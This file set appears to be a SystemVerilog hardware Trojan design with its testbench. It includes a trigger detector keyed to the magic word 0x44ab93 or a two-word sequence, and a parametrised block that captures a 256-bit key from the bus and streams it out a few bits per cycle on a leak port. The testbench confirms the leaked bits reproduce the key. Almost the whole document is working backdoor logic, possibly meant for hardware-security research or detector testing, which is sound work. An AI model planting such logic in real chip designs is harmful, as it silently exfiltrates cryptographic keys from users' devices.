// File: rtl/trojan_pkg.sv
// Shared types and helpers for the parametrised key-leak block.
// Holds the FSM state encoding, the default trigger word and counter sizing.
package trojan_pkg;

    typedef enum logic [2:0] {
        ST_IDLE,
        ST_ARMED,
        ST_CAPTURE,
        ST_LEAK,
        ST_DONE
    } state_e;

    localparam logic [63:0] TRIG0_DEFAULT = 64'h0000_0000_0044_ab93;

    // One spare bit so a counter can hold its own terminal count without wrapping
    function automatic int cnt_width(input int n);
        return $clog2(n) + 1;
    endfunction

endpackage

// File: rtl/trojan_trig_det.sv
// Trigger comparator: single-word or two-word sequence match on the monitored bus.
// fire pulses for the cycle the final trigger word is present; arm requests ARMED.
module trojan_trig_det #(
    parameter int               DATA_W   = 64,
    parameter logic [DATA_W-1:0] TRIG0   = '0,
    parameter logic [DATA_W-1:0] TRIG1   = '0,
    parameter bit               SEQ_TRIG = 1'b0
) (
    input  logic              enable,
    input  logic              armed,
    input  logic [DATA_W-1:0] data,
    output logic              fire,
    output logic              arm
);

    logic hit0;
    logic hit1;

    assign hit0 = (data == TRIG0);
    assign hit1 = (data == TRIG1);

    always_comb begin
        fire = 1'b0;
        arm  = 1'b0;
        if (enable) begin
            if (!SEQ_TRIG) begin
                fire = hit0;
            end else if (armed && hit1) begin
                fire = 1'b1;
            end else begin
                // A repeated first word keeps the sequence armed
                arm = hit0;
            end
        end
    end

endmodule

// File: rtl/trojan_leak_param.sv
// Key-leak block: on trigger, captures KEY_W bits over consecutive bus words,
// then streams them out LEAK_W bits per cycle, LSB-first, with a valid strobe.
module trojan_leak_param
    import trojan_pkg::*;
#(
    parameter int                DATA_W   = 64,
    parameter int                KEY_W    = 256,
    parameter int                LEAK_W   = 2,
    parameter logic [DATA_W-1:0] TRIG0    = DATA_W'(TRIG0_DEFAULT),
    parameter logic [DATA_W-1:0] TRIG1    = '0,
    parameter bit                SEQ_TRIG = 1'b0,
    parameter bit                REARM    = 1'b0
) (
    input  logic              clk,
    input  logic              rst_all_n,
    input  logic [DATA_W-1:0] data,
    output logic [LEAK_W-1:0] leak_out,
    output logic              leak_valid,
    output logic              busy
);

    localparam int CAP_WORDS  = KEY_W / DATA_W;
    localparam int LEAK_BEATS = KEY_W / LEAK_W;
    localparam int WCNT_W     = cnt_width(CAP_WORDS);
    localparam int BCNT_W     = cnt_width(LEAK_BEATS);

    state_e             state_reg, state_next;
    logic [KEY_W-1:0]   key_reg, key_next, key_cap;
    logic [WCNT_W-1:0]  word_cnt_reg, word_cnt_next;
    logic [BCNT_W-1:0]  beat_cnt_reg, beat_cnt_next;
    logic [LEAK_W-1:0]  leak_out_reg, leak_out_next;
    logic               leak_valid_reg, leak_valid_next;
    logic               busy_reg, busy_next;
    logic               fire, arm;
    logic               last_word, last_beat;

    trojan_trig_det #(
        .DATA_W   (DATA_W),
        .TRIG0    (TRIG0),
        .TRIG1    (TRIG1),
        .SEQ_TRIG (SEQ_TRIG)
    ) u_trig_det (
        .enable (state_reg == ST_IDLE || state_reg == ST_ARMED),
        .armed  (state_reg == ST_ARMED),
        .data   (data),
        .fire   (fire),
        .arm    (arm)
    );

    // Key image with the current bus word dropped into the slot selected by word_cnt
    generate
        for (genvar gi = 0; gi < CAP_WORDS; gi++) begin : g_cap
            assign key_cap[gi*DATA_W +: DATA_W] =
                (word_cnt_reg == WCNT_W'(gi)) ? data : key_reg[gi*DATA_W +: DATA_W];
        end
    endgenerate

    assign last_word = (word_cnt_reg == WCNT_W'(CAP_WORDS - 1));
    assign last_beat = (beat_cnt_reg == BCNT_W'(LEAK_BEATS - 1));

    always_comb begin
        state_next      = state_reg;
        key_next        = key_reg;
        word_cnt_next   = word_cnt_reg;
        beat_cnt_next   = beat_cnt_reg;
        leak_out_next   = '0;
        leak_valid_next = 1'b0;
        unique case (state_reg)
            ST_IDLE, ST_ARMED: begin
                if (fire) begin
                    state_next    = ST_CAPTURE;
                    word_cnt_next = '0;
                end else if (arm) begin
                    state_next = ST_ARMED;
                end else begin
                    state_next = ST_IDLE;
                end
            end
            ST_CAPTURE: begin
                key_next = key_cap;
                if (last_word) begin
                    // First beat leaves on the same edge that stores the last word
                    state_next      = ST_LEAK;
                    beat_cnt_next   = '0;
                    leak_out_next   = key_cap[LEAK_W-1:0];
                    leak_valid_next = 1'b1;
                    key_next        = key_cap >> LEAK_W;
                end else begin
                    word_cnt_next = word_cnt_reg + 1'b1;
                end
            end
            ST_LEAK: begin
                if (last_beat) begin
                    state_next = REARM ? ST_IDLE : ST_DONE;
                end else begin
                    leak_out_next   = key_reg[LEAK_W-1:0];
                    leak_valid_next = 1'b1;
                    key_next        = key_reg >> LEAK_W;
                    beat_cnt_next   = beat_cnt_reg + 1'b1;
                end
            end
            ST_DONE: begin
                state_next = ST_DONE;
            end
            default: begin
                state_next = ST_IDLE;
            end
        endcase
        busy_next = (state_next == ST_ARMED) || (state_next == ST_CAPTURE) ||
                    (state_next == ST_LEAK);
    end

    always_ff @(posedge clk or negedge rst_all_n) begin
        if (!rst_all_n) begin
            state_reg      <= ST_IDLE;
            key_reg        <= '0;
            word_cnt_reg   <= '0;
            beat_cnt_reg   <= '0;
            leak_out_reg   <= '0;
            leak_valid_reg <= 1'b0;
            busy_reg       <= 1'b0;
        end else begin
            state_reg      <= state_next;
            key_reg        <= key_next;
            word_cnt_reg   <= word_cnt_next;
            beat_cnt_reg   <= beat_cnt_next;
            leak_out_reg   <= leak_out_next;
            leak_valid_reg <= leak_valid_next;
            busy_reg       <= busy_next;
        end
    end

    assign leak_out   = leak_out_reg;
    assign leak_valid = leak_valid_reg;
    assign busy       = busy_reg;

endmodule

// File: tb/tb_trojan_leak_param.sv
// Bench for trojan_leak_param: four parameter variants driven from one directed sequence,
// each leak checked against the key built from the words the bench itself drove.
module tb_trojan_leak_param;

    logic clk = 1'b0;
    always #5 clk = ~clk;

    logic        rst_def_n = 1'b0, rst_seq_n = 1'b0, rst_rearm_n = 1'b0, rst_small_n = 1'b0;
    logic [63:0] data_def = '0, data_seq = '0, data_rearm = '0;
    logic [31:0] data_small = '0;
    logic [1:0]  leak_def, leak_seq, leak_rearm;
    logic [3:0]  leak_small;
    logic        valid_def, valid_seq, valid_rearm, valid_small;
    logic        busy_def, busy_seq, busy_rearm, busy_small;

    int pass_cnt = 0;
    int fail_cnt = 0;
    int total_cnt = 0;

    trojan_leak_param u_def (
        .clk(clk), .rst_all_n(rst_def_n), .data(data_def),
        .leak_out(leak_def), .leak_valid(valid_def), .busy(busy_def));

    trojan_leak_param #(.SEQ_TRIG(1'b1), .TRIG1(64'h1234)) u_seq (
        .clk(clk), .rst_all_n(rst_seq_n), .data(data_seq),
        .leak_out(leak_seq), .leak_valid(valid_seq), .busy(busy_seq));

    trojan_leak_param #(.REARM(1'b1)) u_rearm (
        .clk(clk), .rst_all_n(rst_rearm_n), .data(data_rearm),
        .leak_out(leak_rearm), .leak_valid(valid_rearm), .busy(busy_rearm));

    trojan_leak_param #(.DATA_W(32), .KEY_W(64), .LEAK_W(4), .TRIG0(32'h0044ab93)) u_small (
        .clk(clk), .rst_all_n(rst_small_n), .data(data_small),
        .leak_out(leak_small), .leak_valid(valid_small), .busy(busy_small));

    // Per-variant geometry, from the parameter sets chosen above
    function automatic int lw_of(int s);   return (s == 3) ? 4 : 2;     endfunction
    function automatic int dw_of(int s);   return (s == 3) ? 32 : 64;   endfunction
    function automatic int cap_of(int s);  return (s == 3) ? 2 : 4;     endfunction
    function automatic int beat_of(int s); return (s == 3) ? 16 : 128;  endfunction

    function automatic logic [3:0] obs_leak(int s);
        case (s)
            0:       return {2'b00, leak_def};
            1:       return {2'b00, leak_seq};
            2:       return {2'b00, leak_rearm};
            default: return leak_small;
        endcase
    endfunction

    function automatic logic obs_valid(int s);
        case (s)
            0:       return valid_def;
            1:       return valid_seq;
            2:       return valid_rearm;
            default: return valid_small;
        endcase
    endfunction

    function automatic logic obs_busy(int s);
        case (s)
            0:       return busy_def;
            1:       return busy_seq;
            2:       return busy_rearm;
            default: return busy_small;
        endcase
    endfunction

    task automatic set_data(input int s, input logic [63:0] v);
        case (s)
            0:       data_def   = v;
            1:       data_seq   = v;
            2:       data_rearm = v;
            default: data_small = v[31:0];
        endcase
    endtask

    task automatic set_rst(input int s, input logic v);
        case (s)
            0:       rst_def_n   = v;
            1:       rst_seq_n   = v;
            2:       rst_rearm_n = v;
            default: rst_small_n = v;
        endcase
    endtask

    task automatic step();
        @(posedge clk);
        #1;
    endtask

    task automatic check(input string tag, input logic [255:0] obs, input logic [255:0] exp);
        total_cnt++;
        assert (obs === exp) pass_cnt++;
        else begin
            fail_cnt++;
            $error("FAIL %s: observed %0h expected %0h", tag, obs, exp);
        end
    endtask

    task automatic pulse_reset(input int s);
        set_rst(s, 1'b0);
        step();
        set_rst(s, 1'b1);
    endtask

    function automatic logic [255:0] rand_key(int s);
        logic [255:0] k;
        k = {$urandom, $urandom, $urandom, $urandom, $urandom, $urandom, $urandom, $urandom};
        if (s == 3) k = k & {192'd0, 64'hffff_ffff_ffff_ffff};
        return k;
    endfunction

    // Drives the final trigger word in cycle T, the key words in T+1..T+cap, then checks
    // leak_valid/leak_out across the window T+cap+1 .. T+cap+beats and two cycles beyond.
    task automatic run_leak(input int s, input logic [63:0] trig, input logic [255:0] key,
                            input bit inject, input int abort_at, input string tag);
        logic [255:0] leaked;
        logic [255:0] lmask;
        logic [255:0] dmask;
        logic [255:0] exp_slice;
        int lw, dw, cap, beats;
        lw     = lw_of(s);
        dw     = dw_of(s);
        cap    = cap_of(s);
        beats  = beat_of(s);
        lmask  = (256'd1 << lw) - 256'd1;
        dmask  = (256'd1 << dw) - 256'd1;
        leaked = '0;
        set_data(s, trig);
        step();
        for (int i = 0; i < cap; i++) begin
            check({tag, "_cap_busy"}, obs_busy(s), 1'b1);
            check({tag, "_cap_valid"}, obs_valid(s), 1'b0);
            set_data(s, 64'((key >> (i * dw)) & dmask));
            step();
        end
        for (int k = 0; k < beats + 2; k++) begin
            check({tag, "_valid"}, obs_valid(s), (k < beats));
            check({tag, "_busy"}, obs_busy(s), (k < beats));
            if (k < beats) begin
                exp_slice = (key >> (k * lw)) & lmask;
                check({tag, "_slice"}, 256'(obs_leak(s)), exp_slice);
                leaked = leaked | (256'(obs_leak(s)) << (k * lw));
            end
            if (k == abort_at) begin
                set_rst(s, 1'b0);
                #1;
                check({tag, "_abort_valid"}, obs_valid(s), 1'b0);
                check({tag, "_abort_busy"}, obs_busy(s), 1'b0);
                check({tag, "_abort_leak"}, 256'(obs_leak(s)), 256'd0);
                set_data(s, 64'd0);
                step();
                set_rst(s, 1'b1);
                return;
            end
            if (inject && k < beats) set_data(s, trig);
            else                     set_data(s, {$urandom, $urandom} | 64'h8000_0000_8000_0000);
            step();
        end
        check({tag, "_key"}, leaked, key);
        set_data(s, 64'd0);
    endtask

    initial begin
        logic [255:0] key;

        // Reset state of every variant
        step();
        step();
        for (int s = 0; s < 4; s++) begin
            check("rst_valid", obs_valid(s), 1'b0);
            check("rst_busy", obs_busy(s), 1'b0);
            check("rst_leak", 256'(obs_leak(s)), 256'd0);
        end
        rst_def_n = 1'b1; rst_seq_n = 1'b1; rst_rearm_n = 1'b1; rst_small_n = 1'b1;
        step();
        step();

        // Default single-word trigger, full 256-bit leak
        key = rand_key(0);
        $display("txn def_basic key=%064h", key);
        run_leak(0, 64'h44ab93, key, 1'b0, -1, "def_basic");

        // Locked in DONE: a further trigger produces nothing
        $display("txn def_locked");
        set_data(0, 64'h44ab93);
        step();
        for (int i = 0; i < 12; i++) begin
            check("locked_valid", valid_def, 1'b0);
            check("locked_busy", busy_def, 1'b0);
            set_data(0, (i % 3 == 0) ? 64'h44ab93 : {$urandom, $urandom});
            step();
        end
        set_data(0, 64'd0);
        pulse_reset(0);
        step();

        // Trigger word as a capture word and all through the leak window
        key = rand_key(0);
        key[127:64] = 64'h44ab93;
        $display("txn def_inject key=%064h", key);
        run_leak(0, 64'h44ab93, key, 1'b1, -1, "def_inject");
        pulse_reset(0);
        step();

        // Reset mid-leak at beat 40, then a fresh full leak
        key = rand_key(0);
        $display("txn def_abort key=%064h", key);
        run_leak(0, 64'h44ab93, key, 1'b0, 40, "def_abort");
        step();
        check("abort_idle_valid", valid_def, 1'b0);
        check("abort_idle_busy", busy_def, 1'b0);
        key = rand_key(0);
        $display("txn def_after_abort key=%064h", key);
        run_leak(0, 64'h44ab93, key, 1'b0, -1, "def_after_abort");

        // Two-word trigger: broken sequence then a repeated first word
        $display("txn seq_broken");
        set_data(1, 64'h44ab93);
        step();
        check("seq_armed_busy", busy_seq, 1'b1);
        set_data(1, 64'h5);
        step();
        for (int i = 0; i < 6; i++) begin
            check("seq_broken_busy", busy_seq, 1'b0);
            check("seq_broken_valid", valid_seq, 1'b0);
            set_data(1, 64'd0);
            step();
        end
        key = rand_key(1);
        $display("txn seq_fire key=%064h", key);
        set_data(1, 64'h44ab93);
        step();
        check("seq_arm1_busy", busy_seq, 1'b1);
        set_data(1, 64'h44ab93);
        step();
        check("seq_arm2_busy", busy_seq, 1'b1);
        run_leak(1, 64'h1234, key, 1'b0, -1, "seq_fire");

        // Re-arm variant: two complete leaks back to back
        for (int r = 0; r < 2; r++) begin
            key = rand_key(2);
            $display("txn rearm_%0d key=%064h", r, key);
            run_leak(2, 64'h44ab93, key, 1'b0, -1, "rearm");
            step();
        end

        // Narrow variant: 32-bit bus, 64-bit key, 4 bits per beat
        for (int r = 0; r < 2; r++) begin
            key = rand_key(3);
            $display("txn small_%0d key=%016h", r, key[63:0]);
            run_leak(3, 64'h44ab93, key, 1'b0, -1, "small");
            pulse_reset(3);
            step();
        end

        $display("%0d/%0d checks passed", pass_cnt, total_cnt);
        $finish;
    end

endmodule
